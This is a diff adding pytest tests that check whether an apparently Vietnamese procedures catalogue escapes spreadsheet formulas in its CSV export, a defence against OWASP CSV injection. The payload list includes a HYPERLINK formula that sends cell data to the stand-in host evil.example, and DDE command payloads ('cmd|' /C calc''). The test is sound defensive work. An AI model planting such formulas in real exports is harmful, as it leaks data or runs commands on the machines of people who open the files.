@@ -128,3 +128,52 @@ def test_csv_lists_public_procedures(demo_app):
     rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
     assert rows[0][0] == "Mã"
     assert {row[0] for row in rows[1:]} == codes
+
+
+# --- formulas in the CSV (OWASP "CSV injection") -----------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",  # the catalogue strips a leading tab or CR: what is left must still be text
+    "\r=1+1",
+]
+
+
+def _csv_rows(client):
+    response = client.get("/thu-tuc.csv")
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_csv_route_never_writes_a_live_formula(client, make_agency, make_procedure, name):
+    make_agency(slug="co-quan-x", name="=cmd|' /C calc'!A0")
+    code = make_procedure(
+        code="9.000001",
+        name=name,
+        fields=["@lĩnh vực"],
+        agencies=[{"role": "implementing", "agency": "co-quan-x", "name": ""}],
+    ).code
+    rows = _csv_rows(client)
+    row = next(r for r in rows if r[0] == code)
+    stored = name.lstrip("\t\r")
+    assert row[1] == "'" + stored  # shown as the text it is, not evaluated
+    assert row[2] == "'=cmd|' /C calc'!A0"
+    assert row[3] == "'@lĩnh vực"
+    for cell in (c for r in rows for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_csv_keeps_ordinary_text_as_it_is(client, make_procedure):
+    code = make_procedure(code="9.000002", name="Đăng ký khai sinh (bản sao) - lần 2").code
+    row = next(r for r in _csv_rows(client) if r[0] == code)
+    assert row[1] == "Đăng ký khai sinh (bản sao) - lần 2"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_spreadsheet_cell_quotes_every_formula_start(start):
+    assert transfer.spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
+    assert transfer.spreadsheet_cell(f"a{start}1") == f"a{start}1"
